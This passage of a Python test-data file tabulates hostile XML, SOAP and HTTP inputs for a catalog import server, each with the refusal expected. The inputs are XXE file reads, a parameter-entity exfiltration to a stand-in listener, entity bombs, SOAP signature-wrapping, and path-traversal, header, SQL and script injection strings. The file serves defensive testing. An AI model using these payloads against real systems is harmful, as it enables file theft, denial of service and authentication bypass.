"""The table of attacks: what is sent, by which way, and the exact answer. `test_attacks.py` sends each and then looks at the server.

Beside it lie `bad_inputs.py` (broken documents and messages, packed bodies, messages in parts) and `test_soap_security.py` (replayed and
expired tokens). Here is what is meant to hurt: to read files, to call out, to cost memory, to smuggle one thing as another.
`{trap}` is the address of a listener that nobody may call, `{canary}` that of a file whose text may never be answered.
"""

from __future__ import annotations

import dataclasses
import re
from collections.abc import Iterator

XML = "application/xml"
JSON = "application/json"
NDJSON = "application/x-ndjson"
CSV = "text/csv"

# The ways of a document: as the body over REST; over SOAP as an element, as text, as an attachment.
REST, GLUED, TEXT, ATTACHED = "rest", "glued", "text", "attached"
WAYS = (REST, GLUED, TEXT, ATTACHED)
SOAP_WAYS = (GLUED, TEXT, ATTACHED)


@dataclasses.dataclass(frozen=True)
class Answer:
    """What is answered, and what the catalog holds afterwards. A failed import has status 200 and its code."""

    status: int
    code: str | None = None
    titles: tuple[str, ...] = ()
    # The codes of the findings, each once.
    findings: tuple[str, ...] = ()


def failed(code: str, *findings: str) -> Answer:
    """The document was taken in, and nothing of it imported."""
    return Answer(200, code, (), findings)


def stored(*titles: str, findings: tuple[str, ...] = ()) -> Answer:
    return Answer(200, None, titles, findings)


def fault(code: str, status: int = 500) -> Answer:
    return Answer(status, code)


problem = Answer


@dataclasses.dataclass(frozen=True)
class Big:
    """A document that is made while it is sent; `%d` in the unit is its number."""

    head: bytes
    unit: bytes
    times: int
    tail: bytes = b""

    def pieces(self) -> Iterator[bytes]:
        yield self.head
        at_once = 1 + (256 << 10) // len(self.unit)
        for start in range(0, self.times, at_once):
            count = min(at_once, self.times - start)
            yield b"".join(self.unit % number for number in range(start, start + count)) if b"%d" in self.unit else self.unit * count
        yield self.tail


@dataclasses.dataclass(frozen=True)
class Document:
    """A document and its answer by each way that can carry it."""

    name: str
    body: bytes | Big
    answers: dict[str, Answer]
    content_type: str = XML
    # By which the server's memory may grow, at its highest, in MiB.
    memory_mib: int = 48
    # The ways by which the answer comes while the document is still being sent.
    early: tuple[str, ...] = ()


def by(answer: Answer, *ways: str) -> dict[str, Answer]:
    return dict.fromkeys(ways or WAYS, answer)


def item(title: bytes = b"New", more: bytes = b"", sku: bytes = b"NEW-1") -> bytes:
    return b"<item><sku>" + sku + b"</sku>" + more + b"<texts><lang>en</lang><title>" + title + b"</title></texts></item>"


def items(title: bytes = b"New", more: bytes = b"", attributes: bytes = b"") -> bytes:
    return b"<items" + attributes + b">" + item(title, more) + b"</items>"


def doctype(subset: bytes, title: bytes = b"New", external: bytes = b"") -> bytes:
    return b"<!DOCTYPE items " + external + b"[" + subset + b"]>" + items(title)


MALFORMED, LIMIT, ENTITY, ENCODING = "document_malformed", "limit_exceeded", "entity_unknown", "encoding_invalid"
TAKEN = stored("New")
# Not well-formed: what SOAP carries as an element is part of the message.
REFUSED = by(failed(MALFORMED), REST, TEXT, ATTACHED) | by(fault(MALFORMED), GLUED)
REJECTED_INVALID = failed("too_many_rejected", "field_invalid")

# --- What a document type declares. It is stepped over unread: who refers to nothing of it is imported. ---

DOCTYPES = [
    Document("quadratic blow-up", doctype(b"<!ENTITY a '" + b"x" * 50_000 + b"'>", b"&a;" * 50_000), by(failed(ENTITY))),
    Document("entities that refer to each other", doctype(b"<!ENTITY a '&b;'><!ENTITY b '&a;'>", b"&a;"), by(failed(ENTITY))),
    Document("a parameter entity that declares one", doctype(b"<!ENTITY % p \"<!ENTITY b 'x'>\"> %p;", b"&b;"), by(failed(ENTITY))),
    Document("a bomb of parameter entities", doctype(b"<!ENTITY % a0 'ha'>" + b"".join(b"<!ENTITY %% a%d '%s'>" % (n, b"%%a%d;" % (n - 1) * 10) for n in range(1, 10)) + b"%a9;"),
             by(TAKEN)),
    Document("a parameter entity by http", doctype(b"<!ENTITY % p SYSTEM '{trap}p.dtd'> %p; %sent;"), by(TAKEN)),
    Document("a file sent out by a parameter entity",
             doctype(b"<!ENTITY % f SYSTEM '{canary}'><!ENTITY % p \"<!ENTITY &#37; out SYSTEM '{trap}?%f;'>\"> %p; %out;"), by(TAKEN)),
    Document("an external entity by http", doctype(b"<!ENTITY x SYSTEM '{trap}x'>", b"&x;"), by(failed(ENTITY))),
    Document("an external entity by PUBLIC", doctype(b"<!ENTITY x PUBLIC '-//X//Y//EN' '{trap}x'>", b"&x;"), by(failed(ENTITY))),
    Document("an external entity of a file", doctype(b"<!ENTITY x SYSTEM '{canary}'>", b"&x;"), by(failed(ENTITY))),
    Document("an external entity in an attribute", doctype(b"<!ENTITY x SYSTEM '{canary}'>").replace(b"<item>", b"<item a='&x;'>"), by(failed(ENTITY))),
    Document("an external entity nobody refers to", doctype(b"<!ENTITY x SYSTEM '{canary}'>"), by(TAKEN)),
    Document("an unparsed entity", doctype(b"<!NOTATION n SYSTEM '{trap}n'><!ENTITY x SYSTEM '{canary}' NDATA n>"), by(TAKEN)),
    Document("an external DTD by SYSTEM", b"<!DOCTYPE items SYSTEM '{trap}items.dtd'>" + items(), by(TAKEN)),
    Document("an external DTD by PUBLIC", b"<!DOCTYPE items PUBLIC '-//X//Y//EN' '{trap}items.dtd'>" + items(), by(TAKEN)),
    Document("an external DTD in UTF-16", b"<!DOCTYPE items SYSTEM '{trap}utf-16.dtd'>" + items(b"&x;"), by(failed(ENTITY))),
    Document("a file as DTD", b"<!DOCTYPE items SYSTEM '{canary}'>" + items(), by(TAKEN)),
    Document("a default for an attribute", doctype(b"<!ATTLIST items xmlns CDATA 'urn:x'><!ATTLIST sku value CDATA 'OTHER'>"), by(TAKEN)),
    Document("one of XML's five declared anew", doctype(b"<!ENTITY lt '&#38;#60;x'><!ENTITY amp SYSTEM '{canary}'>", b"&lt;b&amp;"), by(stored("<b&"))),
    Document("a conditional section", doctype(b"<!ENTITY % on 'INCLUDE'><![%on;[<!ENTITY x 'y'>]]>"), by(failed(MALFORMED), REST, TEXT, ATTACHED) | by(TAKEN, GLUED)),
    Document("an end of its own in quotes", doctype(b"<!ENTITY x ']><items>'>"), by(TAKEN)),
    Document("an end of its own in a comment", doctype(b"<!-- ]><items/> ' -->"), by(TAKEN)),
    Document("an end of its own in an instruction", doctype(b"<?x ]><items/> ' ?>"), by(TAKEN)),
    Document("in UTF-16", doctype(b"<!ENTITY x SYSTEM '{canary}'>", b"&x;").decode().encode("utf-16"), by(failed(ENTITY), REST, ATTACHED)),
    Document("in small letters", b"<!doctype items>" + items(), by(failed(MALFORMED), REST, TEXT, ATTACHED) | by(fault(MALFORMED), GLUED)),
    Document("two of them", b"<!DOCTYPE a><!DOCTYPE b>" + items(), by(failed(MALFORMED), REST, TEXT, ATTACHED)),
    Document("within the root", b"<items><!DOCTYPE a>" + item() + b"</items>", by(failed(MALFORMED), REST, TEXT, ATTACHED) | by(fault("doctype_refused"), GLUED)),
    Document("never closed", b"<!DOCTYPE items [<!ENTITY a 'x'>" + items(), by(failed(MALFORMED), REST, TEXT, ATTACHED)),
    Document("never closed in quotes", b"<!DOCTYPE items SYSTEM 'x>" + items(), by(failed(MALFORMED), REST, TEXT, ATTACHED)),
    Document("10 MB of it", Big(b"<!DOCTYPE items [", b"<!ENTITY a%d 'x'>", 500_000, b"]>" + items()), by(failed(LIMIT), REST, TEXT, ATTACHED) | by(fault(LIMIT), GLUED), early=(GLUED,)),
    Document("10 MB of it, never closed", Big(b"<!DOCTYPE items '", b"x" * 1000, 10_000), by(failed(LIMIT), REST, TEXT, ATTACHED) | by(fault(LIMIT), GLUED), early=(GLUED,)),
    Document("an XInclude of a file", items(more=b"<x:include xmlns:x='http://www.w3.org/2001/XInclude' href='{canary}' parse='text'/>"), by(stored("New", findings=("field_unknown",)))),
    Document("an XInclude by http as text", items(b"<x:include xmlns:x='http://www.w3.org/2001/XInclude' href='{trap}x'/>"), by(REJECTED_INVALID)),
    Document("a schema elsewhere", items(attributes=b" xmlns:i='http://www.w3.org/2001/XMLSchema-instance' i:noNamespaceSchemaLocation='{trap}x.xsd'"), by(TAKEN)),
    Document("a style sheet elsewhere", b"<?xml-stylesheet type='text/xsl' href='{trap}x.xsl'?>" + items(), by(TAKEN)),
    Document("a base elsewhere", items(attributes=b" xml:base='{trap}'"), by(TAKEN)),
]

# --- What costs memory. ---

# In units of 1,000 bytes; the limits are at 1 MiB.
MB_50, MB_4 = 50_000, 4_000


def big(head: bytes, tail: bytes, unit: bytes = b"x" * 1000, times: int = MB_4) -> Big:
    return Big(b"<items>" + head, unit, times, tail + item() + b"</items>")


def limited(name: str, body: Big, *ways: str) -> Document:
    """Beyond a limit. What SOAP looks at is refused while it is sent."""
    return Document(name, body, by(failed(LIMIT), REST, *ways) | by(fault(LIMIT), GLUED), early=(GLUED,))


SIZES = [
    limited("100,000 levels", big(b"", b"</a>" * 100_000, b"<a>", 100_000), TEXT, ATTACHED),
    limited("100,000 levels, never closed", Big(b"<items>", b"<a>", 100_000)),
    limited("a million attributes", big(b"<a", b"/>", b' a%d="1"', 1_000_000)),
    limited("100,000 declarations of namespaces", big(b"<a", b"/>", b' xmlns:n%d="urn:x"', 100_000)),
    limited("100,000 declarations, one at each level", big(b"", b"", b'<a xmlns:n%d="urn:x">', 100_000)),
    limited("an attribute of 50 MB", big(b'<a b="', b'"/>', times=MB_50)),
    # A text is copied on by SOAP piece by piece, whatever its length; the import refuses it.
    Document("a text of 50 MB", big(b"<a>", b"</a>", times=MB_50), by(failed(LIMIT), REST)),
    Document("a text of 4 MB", big(b"<a>", b"</a>"), by(failed(LIMIT))),
    Document("a CDATA section", big(b"<a><![CDATA[", b"]]></a>"), by(failed(LIMIT), REST, GLUED)),
    Document("a text of 100,000 references", big(b"<a>", b"</a>", b"&#120;" * 100, 1000), by(stored("New", findings=("field_unknown",)), REST, GLUED)),
    limited("a name", big(b"<", b"/>")),
    limited("an attribute's name", big(b"<a ", b"=''/>")),
    limited("an end tag", big(b"<a></a", b">", b" " * 1000)),
    Document("a comment", big(b"<!--", b"-->"), by(failed(LIMIT), REST, GLUED)),
    Document("an instruction", big(b"<?a ", b"?>"), by(failed(LIMIT), REST, GLUED)),
    Document("a reference", big(b"<a>&", b";</a>"), by(failed(LIMIT), REST) | by(fault(MALFORMED), GLUED), early=(GLUED,)),
    limited("blanks within a tag", big(b"<a", b"/>", b" " * 1000)),
]

# --- Names, namespaces, encodings, characters, markup: what two readers could understand differently. ---

DUPLICATES = [
    Document("one attribute twice by its namespace", items(attributes=b" xmlns:a='urn:x' xmlns:b='urn:x' a:x='1' b:x='2'"), by(failed(MALFORMED))),
    Document("one attribute with a namespace and without", items(attributes=b" xmlns='urn:x' xmlns:a='urn:x' a:x='1' x='2'"), by(TAKEN)),
    Document("one declaration twice", items(attributes=b" xmlns:a='urn:x' xmlns:a='urn:y'"), REFUSED),
    Document("the default declared twice", items(attributes=b" xmlns='urn:x' xmlns='urn:y'"), REFUSED),
    Document("one element twice", items(more=b"<sku>OTHER</sku>"), by(REJECTED_INVALID)),
]

PREFIXES = [
    Document("xml bound to another namespace", items(attributes=b" xmlns:xml='urn:x'"), REFUSED),
    Document("xml bound to its own", items(attributes=b" xmlns:xml='http://www.w3.org/XML/1998/namespace'"), by(TAKEN)),
    Document("another prefix bound to that of xml", items(attributes=b" xmlns:a='http://www.w3.org/XML/1998/namespace'"), by(failed(MALFORMED))),
    Document("xmlns bound", items(attributes=b" xmlns:xmlns='urn:x'"), REFUSED),
    Document("a prefix bound to that of xmlns", items(attributes=b" xmlns:a='http://www.w3.org/2000/xmlns/'"), by(failed(MALFORMED))),
    Document("a prefix taken back", items(attributes=b" xmlns:a=''"), REFUSED),
    Document("an attribute's prefix that nobody declared", items(attributes=b" a:x='1'"), REFUSED),
    Document("an element's prefix out of scope", items(more=b"<a:x xmlns:a='urn:x'/><a:y/>"), REFUSED),
    Document("two colons", items(more=b"<a:b:c xmlns:a='urn:x'/>"), REFUSED),
    Document("a colon first", items(more=b"<:a/>"), REFUSED),
    Document("a colon last", items(more=b"<a: xmlns:a='urn:x'/>"), REFUSED),
    Document("a name that begins with a digit", items(more=b"<1a/>"), REFUSED),
    Document("a name with a blank first", items(more=b"< a/>"), REFUSED),
    Document("a namespace that is not the first's", b"<items xmlns='urn:x'><item xmlns=''><sku xmlns='urn:y'>NEW-1</sku><texts><lang>en</lang><title>New</title></texts></item></items>", by(TAKEN)),
    Document("the service's prefix bound anew", b"<c:items xmlns:c='urn:x'>" + item() + b"</c:items>", by(TAKEN)),
    Document("the envelope's prefix bound anew", b"<soapenv:items xmlns:soapenv='urn:x'>" + item() + b"</soapenv:items>", by(TAKEN)),
]

DECLARED_UTF_16 = b'<?xml version="1.0" encoding="UTF-16"?>'
DECLARED_UTF_8 = '<?xml version="1.0" encoding="UTF-8"?>'
TEXT_OF_ITEMS = items().decode()
AS_BYTES = (REST, ATTACHED)


def encoded(name: str, body: bytes, answer: Answer, charset: str = "") -> Document:
    """Bytes that an envelope cannot carry in itself."""
    return Document(name, body, by(answer, *AS_BYTES), XML + (f"; charset={charset}" if charset else ""))


ENCODINGS = [
    encoded("UTF-16 declared, UTF-8 sent", DECLARED_UTF_16 + items(), failed(ENCODING)),
    encoded("UTF-8 declared, UTF-16 sent", (DECLARED_UTF_8 + TEXT_OF_ITEMS).encode("utf-16-le"), TAKEN),
    encoded("UTF-8 declared, UTF-16 sent with its mark", (DECLARED_UTF_8 + TEXT_OF_ITEMS).encode("utf-16"), TAKEN),
    encoded("UTF-8 declared, UTF-16 as charset, neither sent", DECLARED_UTF_8.encode() + items(), failed(MALFORMED), "utf-16"),
    encoded("UTF-32 with a mark", TEXT_OF_ITEMS.encode("utf-32"), failed(ENCODING)),
    encoded("UTF-32, big end first", TEXT_OF_ITEMS.encode("utf-32-be"), failed(ENCODING)),
    encoded("UTF-32, little end first", TEXT_OF_ITEMS.encode("utf-32-le"), failed(ENCODING)),
    encoded("UTF-32 as charset", items(), failed(ENCODING), "utf-32"),
    encoded("EBCDIC declared, ASCII sent", b'<?xml version="1.0" encoding="IBM037"?>' + items(), failed(ENCODING)),
    encoded("EBCDIC declared and sent", ('<?xml version="1.0" encoding="IBM037"?>' + TEXT_OF_ITEMS).encode("cp037"), failed(ENCODING)),
    encoded("EBCDIC sent, nothing declared", TEXT_OF_ITEMS.encode("cp037"), failed(ENCODING)),
    encoded("a mark against the charset", b"\xef\xbb\xbf" + items("Größe".encode()), stored("Größe"), "iso-8859-1"),
    encoded("a mark against the declaration", b'\xef\xbb\xbf<?xml version="1.0" encoding="iso-8859-1"?>' + items("Größe".encode()), stored("Größe")),
    encoded("a charset against the declaration", b'<?xml version="1.0" encoding="utf-8"?>' + items("Größe".encode("cp1252")), stored("Größe"), "windows-1252"),
    encoded("the mark of UTF-16 and nothing else", b"\xff\xfe", failed(MALFORMED)),
    encoded("two marks", b"\xef\xbb\xbf\xef\xbb\xbf" + items(), failed(MALFORMED)),
    encoded("UTF-7 declared", b'<?xml version="1.0" encoding="UTF-7"?>' + items(b"+ADw-script+AD4-"), failed(ENCODING)),
    encoded("UTF-7 as charset", items(b"+ADw-script+AD4-"), failed(ENCODING), "utf-7"),
    encoded("UTF-7 that nobody declared", b"+ADw-items/+AD4-", failed(MALFORMED)),
    encoded("UTF-7 in a text is text", items(b"+ADw-script+AD4-"), stored("+ADw-script+AD4-")),
    encoded("ISO-2022-KR, which hides ASCII", b'<?xml version="1.0" encoding="ISO-2022-KR"?>' + items(), failed(ENCODING)),
    encoded("HZ, which hides ASCII", b'<?xml version="1.0" encoding="HZ-GB-2312"?>' + items(), failed(ENCODING)),
    encoded("ASCII declared, more sent", b'<?xml version="1.0" encoding="US-ASCII"?>' + items("Größe".encode()), failed(ENCODING)),
    encoded("a charset that is none", items(), failed(ENCODING), '"\\";alert(1)"'),
    encoded("overlong: two bytes", items(b"a\xc0\xbcb"), failed(ENCODING)),
    encoded("overlong: three bytes", items(b"a\xe0\x80\xbcb"), failed(ENCODING)),
    encoded("overlong: the end of a tag", b"<items>" + item().replace(b"<sku>", b"<sku\xc0\xbe"), failed(ENCODING)),
    encoded("overlong: NUL", items(b"a\xc0\x80"), failed(ENCODING)),
    encoded("CESU-8", items(b"\xed\xa0\xbd\xed\xb8\x80"), failed(ENCODING)),
    encoded("half a pair in UTF-8", items(b"\xed\xa0\xbd"), failed(ENCODING)),
    encoded("half a pair in UTF-16", b"\xff\xfe" + items(b"@").decode().encode("utf-16-le").replace(b"@\0", b"\x3d\xd8"), failed(ENCODING)),
    encoded("beyond Unicode", items(b"\xf4\x90\x80\x80"), failed(ENCODING)),
    encoded("six bytes of a character", items(b"\xfc\x80\x80\x80\x80\xaf"), failed(ENCODING)),
    encoded("cut within a character", items("ö".encode())[:-60] + b"\xc3", failed(ENCODING)),
]

CHARACTERS = [
    encoded("NUL", items(b"a\0b"), failed(MALFORMED)),
    encoded("NUL behind the end", items() + b"\0", failed(MALFORMED)),
    encoded("U+FFFE", items("\ufffe".encode()), failed(MALFORMED)),
    encoded("U+FFFF", items("\uffff".encode()), failed(MALFORMED)),
    encoded("an escape of terminals", items(b"\x1b[2J"), failed(MALFORMED)),
    Document("reference to NUL", items(b"&#0;"), REFUSED),
    Document("reference to an escape", items(b"&#x1B;"), REFUSED),
    Document("reference to U+FFFF", items(b"&#xFFFF;"), REFUSED),
    Document("reference to half a pair", items(b"&#xD800;"), REFUSED),
    Document("reference beyond Unicode", items(b"&#x110000;"), REFUSED),
    Document("reference beyond all integers", items(b"&#99999999999999999999999;"), REFUSED),
    Document("reference with a sign", items(b"&#-1;"), REFUSED),
    Document("reference with another sign", items(b"&#+65;"), REFUSED),
    Document("reference to nothing", items(b"&#;"), REFUSED),
    Document("reference in capitals", items(b"&#X41;"), REFUSED),
    Document("reference without a name", items(b"&;"), REFUSED),
    Document("reference without an end", items(b"&amp"), REFUSED),
    Document("reference within a reference", items(b"&#38;lt;"), by(stored("&lt;"))),
    Document("references to markup", items(b"&#60;/title&#62;&#38;"), by(stored("</title>&"))),
    Document("controls of ISO 8859 as references", items(b"a&#x85;b"), by(stored("a\x85b"))),
    Document("line ends as references", items(b"a&#13;&#10;b"), by(stored("a\r\nb"))),
    Document("line ends", items(b"a\r\nb\rc"), by(stored("a\nb\nc"))),
]

MARKUP = [
    Document("an end of CDATA in a text", items(b"a]]>b"), REFUSED),
    Document("CDATA outside of the root", b"<![CDATA[x]]>" + items(), by(failed(MALFORMED), *AS_BYTES)),
    Document("CDATA within CDATA", items(b"<![CDATA[<![CDATA[x]]>"), by(stored("<![CDATA[x"))),
    Document("markup in CDATA", items(b"<![CDATA[</title><script>&amp;]]>"), by(stored("</title><script>&amp;"))),
    Document("an end of CDATA divided", items(b"<![CDATA[a]]]]><![CDATA[>b]]>"), by(stored("a]]>b"))),
    Document("a text divided by CDATA", items(b"N<![CDATA[e]]>w"), by(TAKEN)),
    Document("a text divided by a comment", items(b"Ne<!-- x -->w"), by(TAKEN)),
    Document("a text divided by an instruction", items(b"Ne<?x y?>w"), by(TAKEN)),
    Document("a number divided by a comment", b"<items>" + item(sku=b"NEW<!-- -->-1") + b"</items>", by(TAKEN)),
    Document("CDATA without an end", items(b"<![CDATA[x"), REFUSED),
    Document("CDATA in small letters", items(b"<![cdata[x]]>"), REFUSED),
    Document("a comment without an end", items(b"<!-- x"), REFUSED),
    Document("a comment with two dashes", items(b"<!-- a -- b -->New"), REFUSED),
    Document("a comment that ends at once", items(b"<!-->New"), REFUSED),
    Document("an instruction without an end", items(b"<?x y"), REFUSED),
    Document("an instruction that would be run", items(more=b"<?php system('id')?>"), by(TAKEN)),
    Document("an instruction called XML", items(more=b"<?XML x?>"), by(failed(MALFORMED))),
    Document("a declaration within the root", items(more=b'<?xml version="1.0"?>'), REFUSED),
    Document("a declaration behind a blank", b' <?xml version="1.0"?>' + items(), by(failed(MALFORMED), *AS_BYTES) | by(TAKEN, GLUED, TEXT)),
    Document("two declarations", b'<?xml version="1.0"?>' * 2 + items(), by(failed(MALFORMED), *AS_BYTES)),
    Document("version 1.1", b'<?xml version="1.1"?>' + items(), by(TAKEN)),
    Document("a declaration within a declaration", items(b"<!ENTITY x 'y'>"), REFUSED),
    Document("an attribute without quotes", items(attributes=b" a=b"), REFUSED),
    Document("an attribute without a value", items(attributes=b" a"), REFUSED),
    Document("attributes without a blank between", items(attributes=b" a='1'b='2'"), REFUSED),
    Document("a tag in an attribute", items(attributes=b" a='<b/>'"), REFUSED),
    Document("a slash in the middle", items(more=b"<a/b>"), REFUSED),
    Document("an end tag with an attribute", items(more=b"<a></a b='c'>"), REFUSED),
    Document("an end tag of another case", items(more=b"<a></A>"), REFUSED),
    Document("nothing but a start", b"<", by(failed(MALFORMED), *AS_BYTES)),
    Document("a tag without an end", b"<items", by(failed(MALFORMED), REST, TEXT, ATTACHED)),
    Document("an attribute without an end", b"<items a='", by(failed(MALFORMED), REST, TEXT, ATTACHED)),
    Document("an item without an end", b"<items><item><sku>NEW-1", by(failed(MALFORMED), REST, TEXT, ATTACHED) | by(fault(MALFORMED), GLUED)),
    Document("an end before the start", b"</items>" + items(), by(failed(MALFORMED), REST, TEXT, ATTACHED)),
    Document("an item behind the root", items() + item(), by(failed(MALFORMED), REST, TEXT, ATTACHED)),
    Document("another root behind CDATA", items() + b"<![CDATA[]]>", by(failed(MALFORMED), *AS_BYTES)),
]

# --- Messages of SOAP ---


@dataclasses.dataclass(frozen=True)
class Message:
    """A message and its fault. In `body`, `{import}` is a sound ImportCatalog, `{ns}` the service's namespace, `{token}` the right UsernameToken."""

    name: str
    body: str
    answer: Answer
    header: str = ""
    version: str = "1.1"
    # What stands before the envelope, and what the whole is encoded in.
    prolog: str = ""
    encoding: str = "utf-8"
    content_type: str | None = None
    action: str | None = '""'
    # Without them the credentials are those of the message.
    has_credentials: bool = True


ENVELOPE_DOCTYPE = "<!DOCTYPE e [<!ENTITY x SYSTEM '{canary}'>]>"
SECURITY = '<w:Security xmlns:w="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"{}>'
UTILITY = 'xmlns:u="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd"'
ANONYMOUS = fault("unauthenticated")
ACTION = "urn:plugpoint:catalog:v1/"


def doctypes_of_envelopes() -> Iterator[Message]:
    refused = fault("doctype_refused")
    yield Message("a DOCTYPE with an external entity", "{import}", refused, prolog=ENVELOPE_DOCTYPE)
    yield Message("a DOCTYPE with a parameter entity", "{import}", refused, prolog="<!DOCTYPE e [<!ENTITY % p SYSTEM '{trap}p'> %p;]>")
    yield Message("a DOCTYPE elsewhere", "{import}", refused, prolog="<!DOCTYPE e SYSTEM '{trap}e.dtd'>")
    yield Message("a DOCTYPE behind a comment", "{import}", refused, prolog="<!-- x -->" + ENVELOPE_DOCTYPE)
    yield Message("a DOCTYPE behind a mark", "{import}", refused, prolog="\ufeff" + ENVELOPE_DOCTYPE)
    yield Message("a DOCTYPE in UTF-16", "{import}", refused, prolog=ENVELOPE_DOCTYPE, encoding="utf-16")
    yield Message("a DOCTYPE in the Header", "{import}", refused, header="<!DOCTYPE e>")
    yield Message("a DOCTYPE in the Body", "<!DOCTYPE e>{import}", refused)
    yield Message("a DOCTYPE in small letters", "{import}", fault(MALFORMED), prolog="<!doctype e>")
    yield Message("a quadratic blow-up", "{import}", refused, prolog="<!DOCTYPE e [<!ENTITY a '" + "x" * 50_000 + "'>]>")
    yield Message("a DOCTYPE without an end", "{import}", refused, prolog="<!DOCTYPE e [")
    yield Message("an entity without a DOCTYPE", '<c:GetItem xmlns:c="{ns}"><c:catalogId>&x;</c:catalogId></c:GetItem>', fault(ENTITY))


def spoofed() -> Iterator[Message]:
    unknown = fault("soap_operation_unknown")
    yield Message("SOAPAction of another operation", "{import}", unknown, action=f'"{ACTION}GetItem"')
    yield Message("SOAPAction of no operation", "{import}", unknown, action=f'"{ACTION}DropCatalog"')
    yield Message("SOAPAction of somebody else", "{import}", unknown, action='"urn:somebody:else/ImportCatalog"')
    yield Message("SOAPAction of two operations", "{import}", unknown, action=f'"{ACTION}ImportCatalog"\r\nSOAPAction: "{ACTION}GetItem"')
    yield Message("SOAPAction that nobody quoted, of another", "{import}", unknown, action=f"{ACTION}GetItem")
    yield Message("an action parameter of another operation", "{import}", Answer(400, "soap_operation_unknown"), version="1.2",
                  content_type=f'application/soap+xml; action="{ACTION}GetItem"', action=None)
    yield Message("two operations", '{import}<c:GetItem xmlns:c="{ns}"/>', fault("soap_envelope_invalid"))
    yield Message("an operation within an operation", '<c:GetItem xmlns:c="{ns}">{import}</c:GetItem>', fault("request_invalid"))
    yield Message("the operation as an attribute's namespace", '<c:ImportCatalog xmlns:c="urn:x" xmlns:d="{ns}" d:c="x"/>', unknown)


def wrapped() -> Iterator[Message]:
    """The shapes of signature wrapping (XSW): what is signed, or lets one in, stands elsewhere than what is carried out."""
    token = SECURITY.format("") + "{token}</w:Security>"
    sound = {"has_credentials": False}
    yield Message("none: a token where it belongs", "{import}", stored("A title"), token, **sound)
    yield Message("a token in the Body", token + "{import}", ANONYMOUS, **sound)
    yield Message("a token in the operation", '<c:GetItem xmlns:c="{ns}">' + token + "</c:GetItem>", ANONYMOUS, **sound)
    yield Message("a token in another header", "{import}", ANONYMOUS, f'<x:Old xmlns:x="urn:x">{token}</x:Old>', **sound)
    yield Message("a token for somebody else", "{import}", ANONYMOUS, token.replace("Security ", 'Security soapenv:actor="urn:other" ', 1), **sound)
    yield Message("a token in a Security of another namespace", "{import}", ANONYMOUS, token.replace("wss-wssecurity-secext-1.0.xsd", "wss-wssecurity-secext-9.9.xsd"), **sound)
    yield Message("a token within a wrapper of Security", "{import}", ANONYMOUS, token.replace("{token}", '<x:Object xmlns:x="urn:x">{token}</x:Object>'), **sound)
    yield Message("a token in a comment", "{import}", ANONYMOUS, token.replace("{token}", "<!--{token}-->"), **sound)
    yield Message("a token in CDATA", "{import}", ANONYMOUS, token.replace("{token}", "<![CDATA[{token}]]>"), **sound)
    yield Message("the Body in the Header", "{import}", fault("soap_envelope_invalid"), '<x:W xmlns:x="urn:x"><soapenv:Body>{import}</soapenv:Body></x:W>')
    yield Message("an Envelope in the Body", '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>{import}</soapenv:Body></soapenv:Envelope>',
                  fault("soap_operation_unknown"))
    yield Message("a Body within the Body", "<soapenv:Body>{import}</soapenv:Body>", fault("soap_operation_unknown"))
    yield Message("two elements of one Id", "{import}", ANONYMOUS,
                  SECURITY.format(f" {UTILITY}") + '<d:Signature xmlns:d="http://www.w3.org/2000/09/xmldsig#"><d:SignedInfo><d:Reference URI="#b"/></d:SignedInfo></d:Signature></w:Security>'
                  + f'<x:W xmlns:x="urn:x" {UTILITY} u:Id="b"/>')
    yield Message("a signature by an XSLT", "{import}", ANONYMOUS,
                  SECURITY.format("") + '<d:Signature xmlns:d="http://www.w3.org/2000/09/xmldsig#"><d:Object><x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform"/></d:Object></d:Signature></w:Security>')
    yield Message("a key that would be fetched", "{import}", ANONYMOUS,
                  SECURITY.format("") + '<d:Signature xmlns:d="http://www.w3.org/2000/09/xmldsig#"><d:KeyInfo><d:RetrievalMethod URI="{trap}k"/></d:KeyInfo></d:Signature></w:Security>')
    yield Message("an answer wanted at the trap", "{import}", fault("soap_addressing_invalid"),
                  '<a:ReplyTo xmlns:a="http://www.w3.org/2005/08/addressing"><a:Address>{trap}</a:Address></a:ReplyTo>')


MESSAGES = [*doctypes_of_envelopes(), *spoofed(), *wrapped()]

# --- Requests: what stands in addresses and headers ---


@dataclasses.dataclass(frozen=True)
class Request:
    """A request as bytes. Where it goes to a place of the catalog, `spring`, the answer is one of that; nothing of it reaches a header of the answer."""

    name: str
    line: str
    status: int
    code: str | None = None
    fields: tuple[str, ...] = ()
    body: bytes = b""


ITEM_OF_JSON = b'{"sku":"%s","texts":[{"lang":"en","title":"New"}]}'
IMPORT = "POST /v1/catalogs/{}/imports"
NOWHERE = (404, "not_found")
AS_JSON = "Content-Type: application/json"
LONG = "a" * 10_000

# What stands for a name in an address, and what it is meant to be.
ODD_NAMES = {
    "up": "..%2f..%2fetc%2fpasswd", "up, all of it packed": "%2e%2e%2f%2e%2e%2fetc", "up, packed twice": "%252e%252e%252f", "up, overlong": "%c0%ae%c0%ae%c0%af",
    "up, backwards": "..%5c..%5cwindows", "up alone": "%2e%2e", "here": "%2e", "a path": "a%2fb", "NUL": "a%00b", "a header": "a%0d%0aX-Evil:%201", "a line": "a%0ab",
    "no UTF-8": "%ff%fe", "half a byte": "a%2", "no number": "a%zz", "the other way round": "a%e2%80%aeb", "nothing to be seen": "a%e2%80%8bb", "a template": "%7b%7b7*7%7d%7d",
    "SQL": "a'%20OR%20'1'='1", "a script": "%3cscript%3ealert(1)%3c%2fscript%3e",
}


def odd(what: str, line: str, body: bytes = b"", *, status: int = 404, code: str = "not_found", **others: tuple[int, str | None]) -> Iterator[Request]:
    """A request for each odd name; `others` are those with another answer, by the name with `_` for blanks."""
    for name, text in ODD_NAMES.items():
        answer = others.get(re.sub(r"[^a-zA-Z]+", "_", name), (status, code))
        yield Request(f"{what}: {name}", line.format(text), *answer, (AS_JSON,) if body else (), body)
    yield Request(f"{what}: 10,000 characters", line.format(LONG), 414, "uri_too_long", (AS_JSON,) if body else (), body)


def header(name: str, field: str, status: int, code: str | None = None, line: str = IMPORT.format("spring"), body: bytes = b"") -> Request:
    return Request(name, line, status, code, (AS_JSON, field), body)


REQUESTS = [
    *odd("catalog to read", "GET /v1/catalogs/{}/items"),
    *odd("catalog to import into", IMPORT, b"[]"),
    *odd("item to read", "GET /v1/catalogs/spring/items/{}"),
